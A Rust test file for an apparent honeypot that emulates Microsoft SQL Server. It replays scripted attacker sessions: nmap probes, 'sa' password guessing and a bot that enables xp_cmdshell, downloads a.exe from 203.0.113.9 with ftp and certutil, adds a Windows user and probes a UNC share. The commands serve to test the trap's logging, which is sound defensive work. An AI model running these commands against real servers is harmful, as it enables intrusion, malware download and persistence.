use std::sync::Arc;

use kizashi_event::{Detail, Port, Timestamp};

use super::login::{Login, Prelogin, request};
use super::wire::{BATCH, Incoming, OLD_LOGIN, PRELOGIN, RPC, Reader, headed, packet};
use super::{TRAP, language};
use crate::windows::utf16;
use crate::{Identity, LoginSettings, Output, Visit, contract};

/// What the application's account sends first, of the identity that transcripts have.
fn login() -> Vec<u8> {
    let identity = Identity::draw([7; 32]).with_web_server(crate::WebServer::NginxDebian12);
    let application = identity.application();
    let account = application.account();
    request(&account.name, account.password)
}

fn batch(text: &str) -> Vec<u8> {
    packet(BATCH, &headed(text))
}

/// A call by its number, with texts for arguments.
fn call(number: u8, texts: &[(&str, &str)]) -> Vec<u8> {
    let mut content = headed("");
    content.extend([0xff, 0xff, number, 0, 0, 0]);
    for (name, text) in texts {
        content.push(u8::try_from(name.len()).unwrap());
        content.extend(utf16(name));
        content.extend([0, 0xe7, 0x40, 0x1f, 9, 4, 0xd0, 0, 0x34]);
        content.extend(u16::try_from(2 * text.len()).unwrap().to_le_bytes());
        content.extend(utf16(text));
    }
    packet(RPC, &content)
}

const PROBE: &[u8] = b"\0\0\x15\0\x06\x01\0\x1b\0\x01\x02\0\x1c\0\x0c\x03\0\x28\0\x04\xff\x08\0\x01\x55\0\0\x02MSSQLServer\0H\x0f\0\0";

/// Guessers of TDS 4.2 send fields of thirty bytes, each with its length.
fn old_login(user: &str, password: &str) -> Vec<u8> {
    let field = |text: &str| {
        let mut field = text.as_bytes().to_vec();
        field.resize(30, 0);
        field.push(u8::try_from(text.len()).unwrap());
        field
    };
    let mut content = [field("PC"), field(user), field(password)].concat();
    content.resize(512, 0);
    packet(OLD_LOGIN, &content)
}

#[test]
#[expect(clippy::too_many_lines, reason = "the dialogues themselves")]
fn every_transcript_holds_however_the_bytes_are_cut() {
    contract::scripted(
        &TRAP,
        "nmap-probe.txt",
        "nmap's probe, which every scanner of the port sends.",
        &[packet(PRELOGIN, PROBE)],
    );
    contract::scripted(
        &TRAP,
        "old-guess.txt",
        "A guesser with the login record of TDS 4.2, refused.",
        &[old_login("sa", "kUq81xX")],
    );
    contract::scripted(
        &TRAP,
        "guess.txt",
        "A guesser with LOGIN7, refused.",
        &[packet(PRELOGIN, PROBE), request("sa", "kUq81xX")],
    );
    contract::scripted(
        &TRAP,
        "another-protocol.txt",
        "What is no packet of TDS is kept.",
        &[b"GET / HTTP/1.0\r\n\r\n".to_vec()],
    );
    contract::scripted(
        &TRAP,
        "commands.txt",
        "A bot that switches everything on, writes a downloader, and runs it each way there is.",
        &[
            login(),
            batch("EXEC xp_cmdshell 'whoami'"),
            batch(
                "EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;",
            ),
            batch("exec master..xp_cmdshell 'whoami & ver'"),
            batch(
                "EXEC master.dbo.xp_cmdshell 'echo open 203.0.113.9>C:\\Windows\\Temp\\f&echo get a.exe>>C:\\Windows\\Temp\\f&ftp -s:C:\\Windows\\Temp\\f'",
            ),
            batch(
                "declare @c varchar(255); set @c = 'certutil -urlcache -split -f http://203.0.113.9/a.exe ' + 'C:\\a.exe'; exec xp_cmdshell @c, no_output",
            ),
            batch("sp_configure 'Ole Automation Procedures',1 RECONFIGURE"),
            batch(
                "DECLARE @s INT; EXEC sp_oacreate 'wscript.shell', @s OUTPUT; EXEC sp_oamethod @s, 'run', NULL, 'cmd /c echo ole'",
            ),
            batch(
                "declare @f int,@o int; exec sp_oacreate 'Scripting.FileSystemObject',@o out; exec sp_oamethod @o,'CreateTextFile',@f out,'C:\\ProgramData\\a.vbs',1; exec sp_oamethod @f,'WriteLine',NULL,'WScript.Echo 1'",
            ),
            batch(&format!(
                "CREATE ASSEMBLY x FROM 0x{} WITH PERMISSION_SET = UNSAFE CREATE PROCEDURE dbo.go2 @c nvarchar(4000) AS EXTERNAL NAME x.a.b",
                "4d5a9000".repeat(40)
            )),
            batch("EXEC dbo.go2 'hostname'"),
            batch(
                "USE msdb; EXEC sp_add_job @job_name='j'; EXEC sp_add_jobstep @job_name='j', @step_name='s', @subsystem='CmdExec', @command='cmd /c net user x P@ss /add'; EXEC sp_start_job 'j'",
            ),
            batch("exec xp_dirtree '\\\\203.0.113.9\\a'; exec xp_dirtree 'C:\\',1,1"),
            batch(
                "exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Control\\Terminal Server','fDenyTSConnections'; exec xp_nothing",
            ),
        ],
    );
    contract::scripted(
        &TRAP,
        "looking.txt",
        "Who looks around: version, databases, tables, variables, temporary tables, calls.",
        &[
            packet(PRELOGIN, PROBE),
            login(),
            batch("SELECT @@version"),
            batch(
                "select name from master..sysdatabases; SELECT SERVERPROPERTY('ProductVersion'), IS_SRVROLEMEMBER('sysadmin'), SYSTEM_USER, db_name()",
            ),
            batch("select top 2 name, database_id from [sys].[databases] where name <> N'master'"),
            batch(
                "if (select count(*) from sys.configurations where name = 'xp_cmdshell') = 1 print 'there' else print 'gone'",
            ),
            batch(
                "create table #t (a varchar(100), b int) insert into #t values ('x\\y', 1), ('z', 2) select * from #t where a like 'x%' drop table #t",
            ),
            batch("use nowhere"),
            batch("select * from nothing; selekt 1"),
            batch(
                "waitfor delay '0:0:2'; select CONVERT(varchar(10), 5) as five, LEN('abc'), system_user + SPACE(2) + 'x' as \"who\", 1 + 2",
            ),
            call(10, &[("", "select @p1 as p"), ("", "@p1 nvarchar(10)"), ("@p1", "it's")]),
            packet(super::wire::TRANSACTION, &[&headed("")[..], &[5, 0, 0, 0]].concat()),
            packet(super::wire::ATTENTION, b""),
        ],
    );
    contract::replay_all(&TRAP);
}

#[test]
fn the_trap_keeps_the_contract() {
    contract::holds(&TRAP);
}

#[test]
fn a_veiled_password_is_read_and_nmaps_probe_is_answered_as_nmap_expects() {
    let sent = request("sa", "P@ss wörd");
    let read = Login::read(&sent[8..]).unwrap();
    assert_eq!(
        (read.user.as_str(), read.password.as_str(), read.version),
        ("sa", "P@ss wörd", 0x74)
    );
    let answer = Prelogin::read(PROBE).unwrap().answer([12, 0, 0x17, 0x88]);
    assert!(answer.starts_with(
        b"\0\0\x15\0\x06\x01\0\x1b\0\x01\x02\0\x1c\0\x01\x03\0\x1d\0\0\xff\x0c\0\x17\x88"
    ));
}

#[test]
fn statements_need_nothing_between_them() {
    let cut = |text: &str| language::statements(&language::tokens(text)).len();
    assert_eq!(cut("declare @a int set @a = 1 select @a exec xp_cmdshell 'select 1'"), 4);
    assert_eq!(cut("insert into #t exec xp_cmdshell 'x' select * from #t"), 2);
    assert_eq!(cut("create procedure p as select 1 exec x"), 1);
    assert_eq!(cut("update t set a = 1 grant execute on x to y"), 2);
}

/// A program of 300 KB in a batch of more than a megabyte is hashed whole, kept as far as there is room, and holds little.
#[test]
fn a_long_assembly_is_hashed_whole_and_does_not_grow() {
    let program: Vec<u8> = (0..300_000_u32).map(|place| (place % 251) as u8).collect();
    let digits: String = program.iter().map(|byte| format!("{byte:02X}")).collect();
    let message = packet(
        BATCH,
        &headed(&format!("CREATE ASSEMBLY x FROM 0x{digits} WITH PERMISSION_SET=UNSAFE")),
    );
    let mut reader = Reader::default();
    let mut found = None;
    for piece in message.chunks(1_000) {
        reader.push(piece);
        match reader.next() {
            Incoming::Message(message) => found = Some(message),
            Incoming::More => {}
            Incoming::Foreign => panic!("a packet"),
        }
        assert!(reader.memory() < 160 * 1024, "{}", reader.memory());
    }
    let literals = found.unwrap().literals;
    let whole = crate::capture::Capture::of(&program).finish(kizashi_event::PayloadOrigin::Sent);
    assert_eq!(literals, [whole]);
}

#[test]
fn a_weak_password_of_sa_opens_it() {
    let logins = LoginSettings { tries: 1..=1, ..LoginSettings::default() };
    let identity = Arc::new(Identity::draw([1; 32]).with_logins(logins));
    let source = [192, 0, 2, 7].into();
    let visit = Visit { source, destination: None, port: Port::tcp(1433), encrypted: false };
    let mut session = (TRAP.begin)(&identity, visit);
    let mut out = Output::new(TRAP.service);
    let now = Timestamp::from_seconds(1_795_582_440);
    session.receive(&request("sa", "123456"), now, &mut out);
    assert!(!out.is_closing());
    let told = out.take_seen();
    assert!(told.iter().any(|seen| matches!(&seen.detail, Detail::Login { accepted: true, .. })));
}
